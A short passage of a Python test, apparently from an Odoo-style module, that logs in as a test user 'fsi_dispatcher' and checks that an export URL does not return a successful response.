        self.authenticate("fsi_dispatcher", "fsi_dispatcher")
        response = self.url_open(export._get_url())
        self.assertNotEqual(response.status_code, 200)
